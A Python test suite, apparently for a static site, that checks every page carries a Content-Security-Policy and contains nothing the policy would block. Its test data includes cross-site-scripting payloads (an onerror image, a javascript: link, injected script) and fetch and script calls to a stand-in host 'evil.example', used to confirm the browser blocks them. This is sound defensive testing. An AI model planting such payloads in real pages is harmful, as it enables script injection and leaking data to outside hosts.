"""Every page carries the policy and has nothing in it that the policy would have to refuse."""

from __future__ import annotations

from pathlib import Path

import pytest
from builders import catalogue, html, setting
from builders import page as written_page
from conftest import ROOT, same_reader
from kb.publish.policy import TRUSTED_SCRIPTS, header_policy, page_policy
from kb.render.extension import PageExtension
from page_states import KINDS, arrive
from playwright.sync_api import Browser, Page, Route, expect
from searching import panel, results, searched, typed
from serve import Built, Element, tree

reader = same_reader

DATA = "application/ld+json"


def directives(policy: str) -> dict[str, str]:
    return dict(one.split(" ", 1) for one in policy.split("; "))


def documents(site: Built) -> dict[str, Element]:
    """Every HTML file that is published."""
    names = [name for name in site.files if name.endswith(".html")]
    return {name: tree(site.files[name].decode(), name) for name in names}


def refused(document: Element) -> list[str]:
    """What stands in the document that the policy stops."""
    found = []
    for element in document.every():
        if element.tag in {"style", "base", "object", "embed", "iframe"}:
            found.append(f"<{element.tag}>")
        if element.tag == "script" and not element.get("src") and element.get("type") != DATA:
            found.append("<script> without src")
        found += [name for name in element.attributes if name == "style" or name.startswith("on")]
        for name in ("src", "action", "poster", "srcset"):
            if ":" in element.get(name) or element.get(name).startswith("//"):
                found.append(f"{name}={element.get(name)}")
    return found


def test_every_page_carries_the_policy_before_anything_that_it_concerns(site: Built) -> None:
    for name, document in documents(site).items():
        encoding, policy, *_ = document.one("head").every()
        assert "charset" in encoding.attributes, name
        assert policy.get("http-equiv") == "Content-Security-Policy", name
        assert policy["content"] == page_policy(), name


def test_no_page_has_anything_inline_or_from_elsewhere(site: Built) -> None:
    wrong = {name: refused(document) for name, document in documents(site).items()}
    assert {name: found for name, found in wrong.items() if found} == {}


@pytest.mark.parametrize(
    "inside",
    [
        "<script>x</script>",
        "<style>x</style>",
        '<p style="x">x</p>',
        '<p onclick="x">x</p>',
        '<script src="https://evil.example/x.js"></script>',
        '<form action="//evil.example/"></form>',
    ],
)
def test_what_the_policy_stops_is_seen(inside: str) -> None:
    assert refused(tree(inside))


def test_a_column_s_alignment_is_a_class() -> None:
    written = written_page("a.fi", "# A\n\n| a | b | c |\n|--:|:-:|:--|\n| 1 | 2 | 3 |\n")
    extension = PageExtension(setting(catalogue([written])), written, lambda path: None)
    made = html(written.body, extension)
    cells = tree(made).every("td")
    assert [cell.get("class") for cell in cells] == ["align-right", "align-center", "align-left"]
    assert refused(tree(made)) == []


@pytest.mark.parametrize("kind", KINDS)
def test_a_browser_refuses_nothing_on_any_kind_of_page(page: Page, kind: str) -> None:
    for address in KINDS[kind]:
        arrive(page, address)
        expect(page.locator("h1").first).to_be_visible()


def test_search_answers_under_the_policy(page: Page) -> None:
    expect(typed(page, KINDS["article"][0], "perhekeskus").locator("li").first).to_be_visible()
    expect(panel(page)).to_be_visible()
    searched(page, "familjecenter", "sv")
    expect(results(page).first).to_be_visible()


@pytest.mark.parametrize(
    "harm",
    [
        "document.body.append(Object.assign(document.createElement('script'), {text: 'ran = 1'}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"ran = 1\">')",
        "document.body.setAttribute('onclick', 'ran = 1'); document.body.click()",
        "document.body.append(Object.assign(document.createElement('a'), "
        "{href: 'javascript:void(window.ran = 1)', id: 'go'})); go.click()",
        "fetch('https://evil.example/')",
        "new Image().src = 'https://evil.example/x.png'",
    ],
)
def test_a_browser_stops_what_would_do_harm(browser: Browser, served: str, harm: str) -> None:
    assert acts(browser, served, harm, policy=False)
    assert not acts(browser, served, harm, policy=True)


def acts(browser: Browser, address: str, harm: str, *, policy: bool) -> bool:
    """Whether the script, once in the page, runs another or asks anybody else for anything."""
    context = browser.new_context(bypass_csp=not policy)
    tab = context.new_page()
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="")

    tab.route("https://evil.example/**", answer)
    tab.goto(address)
    tab.evaluate("onsecuritypolicyviolation = () => { window.refused = true }")
    tab.evaluate(f"() => {{ try {{ {harm} }} catch {{}} }}")
    for _ in range(1_000):
        if asked or tab.evaluate("'ran' in window || 'refused' in window"):
            break
        tab.wait_for_timeout(20)
    acted = bool(tab.evaluate("'ran' in window")) or asked != []
    context.close()
    return acted


def test_live_reload_is_the_only_script_in_a_page_that_is_ever_allowed() -> None:
    usual, serving = directives(page_policy()), directives(page_policy(live_reload=True))
    assert "unsafe" not in page_policy() + header_policy()
    assert dict(serving.items() - usual.items()) == {"script-src": "'self' 'unsafe-inline'"}


def test_a_server_sends_what_a_page_cannot_say_itself() -> None:
    more = directives(header_policy()).items() - directives(page_policy()).items()
    assert dict(more) == {"frame-ancestors": "'none'"}


def test_the_maker_of_the_worker_s_address_has_the_name_that_the_policy_knows() -> None:
    script = Path(ROOT / "overrides/assets/search/ui.js").read_text("utf-8")
    assert f'createPolicy("{TRUSTED_SCRIPTS}"' in script
